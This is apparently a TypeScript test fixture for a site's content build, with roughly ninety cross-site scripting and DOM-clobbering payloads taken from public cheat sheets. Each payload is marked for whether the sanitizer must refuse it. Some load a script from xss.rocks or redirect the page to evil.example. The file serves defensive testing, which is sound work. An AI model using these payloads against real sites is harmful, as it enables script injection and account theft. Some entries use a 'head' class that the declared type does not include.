// Hostile Markdown and HTML for tests/security/content-html.test.ts, from public XSS lists. Each
// entry is one post body; `refused` says whether the build must name it as content-unsafe-html
// (false: the Markdown or HTML parser already turns it into harmless text or drops it).

const owasp = 'https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html (github.com/OWASP/CheatSheetSeries cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md)'
const portswiggerProtocols = 'https://portswigger.net/web-security/cross-site-scripting/cheat-sheet#protocols (github.com/PortSwigger/xss-cheatsheet-data json/protocols.json)'
const portswiggerEvents = 'https://portswigger.net/web-security/cross-site-scripting/cheat-sheet#event-handlers (github.com/PortSwigger/xss-cheatsheet-data json/events.json)'
const portswiggerMutation = 'https://portswigger.net/web-security/cross-site-scripting/cheat-sheet (github.com/PortSwigger/xss-cheatsheet-data json/mutation_xss.json)'
const sonarMxss = 'https://sonarsource.github.io/mxss-cheatsheet/examples/ (github.com/SonarSource/mxss-cheatsheet examples.md)'
const html5sec = 'https://html5sec.org/ (github.com/cure53/H5SC items.js)'
const portswiggerClobbering = 'https://portswigger.net/web-security/dom-based/dom-clobbering (and DOMPurify SANITIZE_DOM: id/name that are properties of document)'
const portswigger2025 = 'https://portswigger.net/web-security/cross-site-scripting/cheat-sheet (2025 edition: popover, content-visibility, SVG animation and MathML vectors)'
const htmlMicrodata = 'https://html.spec.whatwg.org/multipage/semantics.html#the-meta-element (a <meta name> or <link rel> in <body> still acts; only microdata belongs there)'
const namedAccess = 'https://html.spec.whatwg.org/multipage/nav-history-apis.html#named-access-on-the-window-object and https://html.spec.whatwg.org/multipage/dom.html#dom-document-nameditem'
const commonMark = 'https://spec.commonmark.org/0.31.2/ (links, autolinks, entity references in destinations)'

/** One hostile post body. */
export interface HostilePayload {
  readonly name: string
  readonly class: 'script' | 'event handler' | 'script URL' | 'element' | 'css' | 'mutation' | 'markdown' | 'clobbering'
  readonly body: string
  /** Body line (1-based) the error must name; default 1. */
  readonly line?: number
  /** Whether the build must refuse it; default true. */
  readonly refused?: boolean
  readonly source: string
}

export const hostilePayloads: readonly HostilePayload[] = [
  // Scripts
  { name: 'inline script', class: 'script', body: '<script>alert(1)</script>', source: owasp },
  { name: 'script with slash and external src', class: 'script', body: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', refused: false, source: owasp }, // CommonMark: no tag (text),
  { name: 'script src data: URL', class: 'script', body: '<script src="data:text/javascript,alert(1)"></script>', source: portswiggerProtocols },
  { name: 'SVG script with entity', class: 'script', body: '<svg><script>&#97;lert(1)</script></svg>', source: portswiggerMutation },
  { name: 'SVG script href', class: 'script', body: '<svg><script href="data:text/javascript,alert(1)" /></svg>', source: portswiggerProtocols },
  { name: 'module script', class: 'script', body: '<script type="module">alert(1)</script>', source: html5sec },
  { name: 'script type with spaces and case', class: 'script', body: '<script type=" Text/JavaScript ">alert(1)</script>', source: html5sec },
  { name: 'script with HTML comment', class: 'script', body: '<script><!--\nalert(1)\n// --></script>', source: portswiggerMutation },
  { name: 'script in a footnote', class: 'script', body: 'Text[^1].\n\n[^1]: <script>alert(1)</script>', line: 3, source: commonMark },
  // Event handlers
  { name: 'img onerror', class: 'event handler', body: '<img src=x onerror=alert(1)>', source: owasp },
  { name: 'svg onload with slash', class: 'event handler', body: '<svg/onload=alert(1)>', refused: false, source: owasp }, // CommonMark: no tag (text),
  { name: 'details ontoggle', class: 'event handler', body: '<details open ontoggle=alert(1)><summary>x</summary></details>', source: portswiggerEvents },
  { name: 'mixed-case onclick', class: 'event handler', body: '<a href="#" oNcLiCk="alert(1)">x</a>', source: owasp },
  { name: 'custom element onfocus autofocus', class: 'event handler', body: '<xss onfocus=alert(1) autofocus tabindex=1>x</xss>', source: portswiggerEvents },
  { name: 'SVG set of onload', class: 'event handler', body: '<svg><set attributeName="onload" to="alert(1)"/></svg>', source: portswiggerMutation },
  { name: 'handler in a table cell', class: 'event handler', body: '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |', line: 3, source: commonMark },
  { name: 'handler in a heading', class: 'event handler', body: '# Title <img src=x onerror=alert(1)>', source: commonMark },
  { name: 'handler inside a template', class: 'event handler', body: '<template><img src=x onerror=alert(1)></template>', source: portswiggerMutation },
  { name: 'popover onbeforetoggle', class: 'event handler', body: '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>', source: portswigger2025 },
  { name: 'content-visibility state change', class: 'event handler', body: '<div oncontentvisibilityautostatechange=alert(1)>x</div>', source: portswigger2025 },
  { name: 'SVG animate onbegin', class: 'event handler', body: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', source: portswigger2025 },
  { name: 'input autofocus onfocus', class: 'event handler', body: '<input autofocus onfocus=alert(1)>', source: portswigger2025 },
  // Script URLs
  { name: 'MathML maction xlink:href', class: 'script URL', body: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>', source: portswigger2025 },
  { name: 'link with a control character entity before javascript:', class: 'script URL', body: '<a href=" &#14;javascript:alert(1)">x</a>', source: portswigger2025 },
  { name: 'javascript: mixed case', class: 'script URL', body: '<a href="JaVaScript:alert(1)">XSS</a>', source: portswiggerProtocols },
  { name: 'javascript: after space and tab', class: 'script URL', body: '<a href=" \tjavascript:alert(1)">XSS</a>', source: portswiggerProtocols },
  { name: 'javascript: with a newline entity before the colon', class: 'script URL', body: '<a href="javascript&#x0A;:alert(1)">XSS</a>', source: portswiggerProtocols },
  { name: 'carriage return entity inside', class: 'script URL', body: `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, source: owasp },
  { name: 'control character entity before', class: 'script URL', body: `<IMG SRC=" &#14;  javascript:alert('XSS');">`, source: owasp },
  { name: 'decimal entities without semicolons', class: 'script URL', body: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>', source: owasp },
  { name: 'hex entities without semicolons', class: 'script URL', body: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>', source: owasp },
  { name: 'form action', class: 'script URL', body: '<form action=javascript:alert(1)><input type=submit value=XSS></form>', source: portswiggerProtocols },
  { name: 'button formaction', class: 'script URL', body: '<form><button formaction=javascript:alert(1)>XSS</button></form>', source: portswiggerProtocols },
  { name: 'SVG xlink:href', class: 'script URL', body: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>', source: portswiggerProtocols },
  { name: 'SVG animate of href', class: 'script URL', body: '<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a></svg>', source: portswiggerProtocols },
  { name: 'MathML href on any element', class: 'script URL', body: '<math><x href="javascript:alert(1)">blah</x></math>', source: portswiggerProtocols },
  { name: 'iframe javascript: src', class: 'script URL', body: '<iframe src="javascript:alert(1)"></iframe>', source: portswiggerProtocols },
  { name: 'iframe data: document', class: 'script URL', body: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', source: html5sec },
  { name: 'link to a base64 data: document', class: 'script URL', body: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', source: html5sec },
  { name: 'srcset candidate', class: 'script URL', body: '<img srcset="javascript:alert(1) 1x, /a.png 2x" alt="x">', source: html5sec },
  { name: 'video poster', class: 'script URL', body: '<video poster="javascript:alert(1)"></video>', source: html5sec },
  { name: 'table background', class: 'script URL', body: `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`, source: owasp },
  { name: 'img dynsrc', class: 'script URL', body: `<IMG DYNSRC="javascript:alert('XSS')">`, source: owasp },
  { name: 'img vbscript:', class: 'script URL', body: `<IMG SRC='vbscript:msgbox("XSS")'>`, source: owasp },
  { name: 'stylesheet link to javascript:', class: 'script URL', body: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, source: owasp },
  { name: 'SVG use of a data: document', class: 'script URL', body: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><rect width='100' height='100'/></a></svg>#x"></use></svg>`, source: portswiggerProtocols },
  { name: 'Markdown link', class: 'script URL', body: '[click](javascript:alert(1))', source: commonMark },
  { name: 'Markdown link with entity colon', class: 'script URL', body: '[click](JaVaScRiPt&#58;alert(1))', source: commonMark },
  { name: 'Markdown image', class: 'script URL', body: '![x](javascript:alert(1))', source: commonMark },
  { name: 'Markdown reference definition', class: 'script URL', body: '[x][1]\n\n[1]: javascript:alert(1)', source: commonMark },
  { name: 'Markdown autolink', class: 'script URL', body: '<javascript:alert(1)>', source: commonMark },
  // Elements that take over the page
  { name: 'base href', class: 'element', body: '<base href="https://evil.example/">', source: html5sec },
  { name: 'meta refresh', class: 'element', body: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', source: portswiggerMutation },
  { name: 'object data', class: 'element', body: '<object data="javascript:alert(1)"></object>', source: portswiggerProtocols },
  { name: 'embed', class: 'element', body: '<embed src="/evil.svg">', source: html5sec },
  { name: 'iframe srcdoc script', class: 'element', body: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', source: portswiggerMutation },
  { name: 'iframe srcdoc escaped handler', class: 'element', body: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>', source: html5sec },
  // CSS
  { name: 'style expression()', class: 'css', body: `<div style="width: expression(alert('XSS'));">x</div>`, source: owasp },
  { name: 'list-style-image javascript:', class: 'css', body: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE>`, source: owasp },
  { name: 'behavior', class: 'css', body: '<XSS STYLE="behavior: url(xss.htc);">x</XSS>', source: owasp },
  { name: 'escaped CSS javascript:', class: 'css', body: `<div style="background-image: url(\\6a avascript:alert('XSS'))">x</div>`, source: owasp },
  // Mutation XSS: markup that reads differently when the browser parses the page
  { name: 'noscript title breakout', class: 'mutation', body: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', refused: false, source: sonarMxss }, // inline HTML: <noscript> closes empty,
  { name: 'svg style namespace confusion', class: 'mutation', body: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', source: sonarMxss },
  { name: 'form math mglyph style', class: 'mutation', body: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', source: sonarMxss },
  { name: 'mtext table mglyph comment', class: 'mutation', body: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">', source: sonarMxss },
  { name: 'noscript style', class: 'mutation', body: '<noscript><style></noscript><img src=x onerror=alert(1)>', source: sonarMxss },
  { name: 'svg style img', class: 'mutation', body: '<svg><style><img src=x onerror=alert(1)>', source: sonarMxss },
  { name: 'math style comment', class: 'mutation', body: '<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>', source: sonarMxss },
  { name: 'comment with --!>', class: 'mutation', body: '<!--a foo=--!><img src=x onerror=alert(1)><!--<a>">', source: sonarMxss },
  { name: 'CDATA in HTML', class: 'mutation', body: '<![CDATA[<math><img src=x onerror=alert(1)>]]>', source: sonarMxss },
  { name: 'annotation-xml foreignobject', class: 'mutation', body: `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='alert(1)'>">`, refused: false, source: sonarMxss }, // `<!--…-->` is an inline comment to CommonMark,
  { name: 'textarea comment', class: 'mutation', body: '<textarea><!--</textarea><script>alert(1)</script>--></textarea>', source: portswiggerMutation },
  { name: 'comment svg', class: 'mutation', body: '<!--><svg onload=alert(1)>-->', source: portswiggerMutation },
  { name: 'title with escaped markup', class: 'mutation', body: '<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;', refused: false, source: portswiggerMutation },
  // DOM clobbering: an element of the post found instead of the site's own, or shadowing document's
  { name: 'forged consent config', class: 'clobbering', body: '<p id="np-consent-config">{"services":[],"privacyPolicyUrl":"javascript:alert(1)"}</p>', source: portswiggerClobbering },
  { name: 'form named cookie', class: 'clobbering', body: '<form name="cookie"><input name="split"></form>', source: portswiggerClobbering },
  { name: 'img named body', class: 'clobbering', body: '<img name="body" src="/a.png" alt="">', source: portswiggerClobbering },
  { name: 'anchor with reserved id and document name', class: 'clobbering', body: '<a id="np-consent-banner" name="getElementById" href="/x/">x</a>', source: portswiggerClobbering },
  { name: 'form named after a global of the consent runtime', class: 'clobbering', body: '<form id="dataLayer"><input name="push"></form>', source: namedAccess },
  { name: 'anchor id of a Matomo global', class: 'clobbering', body: '<a id="_paq" href="/x/">x</a>', source: namedAccess },
  { name: 'img named after a method of document', class: 'clobbering', body: '<img name="addEventListener" src="/a.png" alt="">', source: namedAccess },
  { name: 'named img whose id shadows document', class: 'clobbering', body: '<img id="defaultView" name="bild" src="/a.png" alt="">', source: namedAccess },
  // Head elements in the body: they still act for the whole page
  { name: 'meta referrer', class: 'head', body: '<meta name="referrer" content="unsafe-url">', source: htmlMicrodata },
  { name: 'meta CSP', class: 'head', body: '<meta http-equiv="Content-Security-Policy" content="script-src *">', source: htmlMicrodata },
  { name: 'meta og:image', class: 'head', body: '<meta property="og:image" content="https://evil.example/x.png">', source: htmlMicrodata },
  { name: 'link rel=import', class: 'head', body: '<link rel="import" href="/x.html">', source: htmlMicrodata },
  { name: 'link rel=prefetch', class: 'head', body: '<link rel="prefetch" href="/tracking">', source: htmlMicrodata },
  { name: 'srcdoc with a meta refresh', class: 'element', body: '<iframe srcdoc="<meta http-equiv=refresh content=0;url=https://evil.example>"></iframe>', source: portswiggerMutation },
  // Markdown constructs that must stay text (escaped, not refused)
  { name: 'link title', class: 'markdown', body: '[a](/x/ "t\\" onmouseover=\\"alert(1)")', refused: false, source: commonMark },
  { name: 'image alt', class: 'markdown', body: '![alt" onerror="alert(1)](/x.png)', refused: false, source: commonMark },
  { name: 'code fence info string', class: 'markdown', body: '```js" onclick="alert(1)\ncode\n```', refused: false, source: commonMark },
  { name: 'code span with a script', class: 'markdown', body: '`<script>alert(1)</script>`', refused: false, source: commonMark },
  { name: 'heading id from markup text', class: 'markdown', body: '# "><script>alert(1)</script>', refused: true, source: commonMark },
]
